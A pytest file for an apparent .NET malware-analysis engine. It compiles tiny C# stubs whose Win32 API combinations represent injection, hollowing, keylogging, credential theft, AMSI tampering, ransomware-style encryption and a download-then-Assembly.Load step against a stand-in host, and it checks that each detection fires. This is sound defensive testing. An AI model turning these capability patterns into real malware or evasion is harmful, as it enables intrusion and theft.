"""Assemblies built from source: each finding where it is, and where it is not."""

from __future__ import annotations

import base64
import random
import zlib

import lief
import pytest

from lazaretto.analysis.behaviours import default_folder
from lazaretto.analysis.cage.host import Cage, sheet
from lazaretto.analysis.engines.dotnet import ENGINE
from lazaretto.analysis.findings import load_meanings
from lazaretto.analysis.identify import identify
from lazaretto.testing.looked import Looked, look
from lazaretto.testing.programs import Programs
from lazaretto.testing.windows_files import pe

lief.logging.disable()
NOISE = random.Random(7).randbytes(32 << 10)
INNER = pe(imports={"kernel32.dll": ["ExitProcess"]})
USING = (
    "using System; using System.IO; using System.Net; using System.Reflection; using System.Runtime.InteropServices; "
)


def invoking(*names: str, body: str = "") -> str:
    imports = " ".join(f'[DllImport("kernel32.dll")] static extern IntPtr {name}(IntPtr a);' for name in names)
    called = " ".join(f"{name}(IntPtr.Zero);" for name in names)
    return f"{USING} class A {{ {imports} static void Main() {{ {called} {body} }} }}"


def program(body: str) -> str:
    return f"{USING} class A {{ static void Main() {{ {body} }} }}"


COPY = "Marshal.Copy(new byte[4], 0, IntPtr.Zero, 4);"
LOAD = "Assembly.Load(data);"
CASES: dict[str, tuple[str, str]] = {
    "dotnet-can-injection": (
        invoking("OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"),
        invoking("OpenProcess", "VirtualAllocEx", "WriteProcessMemory"),
    ),
    "dotnet-can-hollowing": (
        invoking("CreateProcess", "WriteProcessMemory", "SetThreadContext", "ResumeThread"),
        invoking("CreateProcess", "WriteProcessMemory", "ResumeThread"),
    ),
    "dotnet-can-keys": (
        invoking("GetAsyncKeyState", "GetForegroundWindow", "GetWindowText", "WriteFile"),
        invoking("GetAsyncKeyState", "GetForegroundWindow", "WriteFile"),
    ),
    "dotnet-can-fetch-and-start": (invoking("URLDownloadToFile", "WinExec"), invoking("URLDownloadToFile")),
    "dotnet-can-passwords": (invoking("CredEnumerateW"), invoking("CredFree")),
    "dotnet-can-memory-of-others": (
        invoking("MiniDumpWriteDump", "OpenProcess", "AdjustTokenPrivileges"),
        invoking("MiniDumpWriteDump", "OpenProcess"),
    ),
    "dotnet-can-debugger-checks": (
        invoking("CheckRemoteDebuggerPresent", "IsDebuggerPresent", "GetTickCount"), invoking("IsDebuggerPresent"),
    ),
    "dotnet-can-encrypt-files": (
        invoking("CryptEncrypt", "FindFirstFileW", "MoveFileExW", "GetLogicalDrives"), invoking("CryptEncrypt"),
    ),
    "dotnet-can-processes-killed": (
        invoking("EnumProcesses", "TerminateProcess", "ControlService"), invoking("EnumProcesses", "ControlService"),
    ),
    "dotnet-can-run-raw-code": (
        invoking("VirtualAlloc", "CreateThread", body=COPY), invoking("VirtualAlloc", "CreateThread"),
    ),
    "dotnet-silences-watchers": (
        invoking("VirtualProtect", "GetProcAddress", body='Console.WriteLine("AmsiScan" + "Buffer");'),
        invoking("VirtualProtect", body='Console.WriteLine("AmsiScanBuffer");'),
    ),
    "dotnet-loads-from-memory": (
        program(f"var data = File.ReadAllBytes(\"a\"); {LOAD}"), program('Assembly.Load("System.Xml");'),
    ),
    "dotnet-loads-what-it-fetches": (
        program(f'var data = new WebClient().DownloadData("http://a.example/"); {LOAD}'),
        program('new WebClient().DownloadData("http://a.example/");'),
    ),
    "dotnet-loads-what-it-decrypts": (
        program("var data = System.Security.Cryptography.Aes.Create().CreateDecryptor()"
                f".TransformFinalBlock(new byte[16], 0, 16); {LOAD}"),
        program("System.Security.Cryptography.Aes.Create().CreateDecryptor();"),
    ),
    "dotnet-program-as-text": (
        program(f'Console.WriteLine("{base64.b64encode(INNER).decode()}");'),
        program(f'Console.WriteLine("{base64.b64encode(NOISE[:3000]).decode()}");'),
    ),
    "dotnet-meaningless-names": (
        USING + " ".join(f"class {chr(97 + n)} {{ }}" for n in range(26)) + " class Main1 { static void Main() { } }",
        USING + " ".join(f"class Thing{n} {{ }}" for n in range(26)) + " class Main1 { static void Main() { } }",
    ),
}  # fmt: skip
RESOURCES: dict[str, tuple[bytes, bytes]] = {
    "dotnet-disordered-resource": (NOISE, b"\x89PNG\r\n\x1a\n" + NOISE),
    "dotnet-carries-packed-program": (zlib.compress(INNER, 9)[2:-4], zlib.compress(b"text" * 5000)),
    "dotnet-hides-program": (
        bytes(byte ^ b"pass"[place % 4] for place, byte in enumerate(INNER)), b"a text of some length " * 99,
    ),
}  # fmt: skip


def built(programs: Programs, source: str, *flags: str) -> Looked:
    return look(ENGINE, programs.assembly(source, *flags).read_bytes(), "a.exe")


@pytest.mark.parametrize("name", CASES)
def test_what_is_there_is_found_and_nothing_else(name: str, programs: Programs) -> None:
    there, not_there = CASES[name]
    assert name in built(programs, there).findings
    assert name not in built(programs, not_there).findings


@pytest.mark.parametrize("name", RESOURCES)
def test_resources_are_looked_into(name: str, programs: Programs) -> None:
    there, not_there = (programs.file("inner.bin", data) for data in RESOURCES[name])
    seen = built(programs, program(""), f"-resource:{there},thing")
    assert name in seen.findings
    assert name not in built(programs, program(""), f"-resource:{not_there},thing").findings
    if name != "dotnet-disordered-resource":
        assert seen.members["thing"].data == INNER


def test_names_that_nobody_types(programs: Programs) -> None:
    source = USING + " ".join(f"class QQQ{n:02} {{ }}" for n in range(30)) + " class Main1 { static void Main() { } }"
    data = programs.assembly(source).read_bytes()
    assert "dotnet-unreadable-names" not in look(ENGINE, data, "a.exe").findings
    assert "dotnet-unreadable-names" in look(ENGINE, data.replace(b"QQQ", b"\x01\x02\x03"), "a.exe").findings


def test_every_finding_has_a_case_and_a_meaning() -> None:
    known = {name for name in load_meanings(default_folder()).by_id if name.startswith("dotnet-")}
    assert known == CASES.keys() | RESOURCES.keys() | {"dotnet-unreadable-names"}


def test_an_ordinary_program_shows_nothing_but_facts(programs: Programs) -> None:
    seen = built(programs, program('Console.WriteLine("hello");'))
    assert seen.findings == {}
    assert seen.facts["runtime"].startswith("v4.")
    assert seen.facts["uses"] == ("mscorlib",)
    assert seen.facts["native code beside it"] is False


def test_without_metadata_it_says_so(programs: Programs) -> None:
    data = programs.assembly(program("")).read_bytes().replace(b"BSJB", b"XXXX")
    assert look(ENGINE, data, "a.exe").shortfalls


def test_damaged_files_end_in_outputs(programs: Programs) -> None:
    body = COPY + "var data = new byte[3]; " + LOAD
    whole = programs.assembly(invoking("VirtualAlloc", "CreateThread", body=body)).read_bytes()
    start = whole.find(b"BSJB")
    source = random.Random(7)
    for _ in range(300):
        data = bytearray(whole)
        for _ in range(source.randrange(1, 40)):
            place = start + source.randrange(0x800) if source.random() < 0.7 else source.randrange(len(data))
            data[place % len(data)] = source.choice([0, 0xFF, 0x7F, source.randrange(256)])
        if source.random() < 0.3:
            del data[source.randrange(len(data)) :]
        look(ENGINE, bytes(data), "a.exe")


def test_it_runs_in_the_cage(programs: Programs) -> None:
    data = programs.assembly(CASES["dotnet-program-as-text"][0]).read_bytes()
    with Cage(at_once=1) as cage, sheet(data) as fd:
        done = cage.run(ENGINE, fd, name="a.exe", kind=identify(data, "a.exe"))
    assert done.failed == "", done.detail
    assert list(done.outputs) == look(ENGINE, data, "a.exe").outputs
